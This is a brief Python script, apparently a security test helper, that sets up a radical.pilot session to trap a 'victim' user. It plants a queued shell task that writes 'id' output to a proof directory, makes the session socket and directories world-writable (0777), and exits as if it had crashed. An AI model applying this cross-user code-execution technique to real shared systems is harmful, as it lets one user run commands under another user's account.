"""Prepares a session where a victim is expected: `python intruder.py BASE UID PROOF`, run by another user.

A hub is left at work there, with a task for whoever comes, which writes to the directory PROOF. All that other users
need to attach to the session is opened to them.
"""

from __future__ import annotations

import os
import sys
from pathlib import Path

import radical.pilot as rp


def main() -> None:
    """Do it, and leave."""
    base, uid, proof = sys.argv[1:]
    session = rp.Session(uid=uid, cfg={'base': base}, orphan_timeout=600)
    rp.PilotManager(session)
    tmgr = rp.TaskManager(session)
    task = tmgr.submit_tasks(rp.TaskDescription({
        'executable': '/bin/sh', 'arguments': ['-c', f'id > {proof}/$$'], 'pilot': 'pilot.0000'}))
    session._owner.engine.settle(30)
    socket = Path(session.reg_addr.removeprefix('ipc://'))
    for directory in (socket.parent, Path(session.path)):
        for path in (*directory.iterdir(), directory):
            path.chmod(0o777)
    assert task.state not in rp.FINAL
    print('prepared', flush=True)
    os._exit(0)   # as if it had crashed


if __name__ == '__main__':
    main()
